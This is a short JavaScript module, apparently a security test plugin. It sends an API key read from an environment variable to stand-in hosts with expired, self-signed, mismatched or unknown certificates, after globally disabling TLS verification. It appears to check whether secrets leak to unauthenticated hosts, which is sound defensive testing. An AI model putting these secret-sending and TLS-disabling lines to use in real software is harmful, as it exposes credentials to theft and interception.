// Has its key sent to hosts that cannot prove who they are.
import { plugin } from "./hostile.mjs";
import { get, request, together } from "./net.mjs";

process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0";

export default plugin("hostile-secrets-certificate", {
  attack: ({ key }) => {
    const headers = { "x-api-key": process.env[key] };
    return together({
      granted: get("https://good.cert-key.example/", { headers }),
      ...Object.fromEntries(["expired", "self-signed", "other-name", "unknown"].flatMap((name) => [
        [name, get(`https://${name}.cert-key.example/`, { headers })],
        [`${name}, raw`, request({ host: `${name}.cert-key.example` }, "GET /", [`X-Api-Key: ${process.env[key]}`])],
      ])),
    });
  },
});
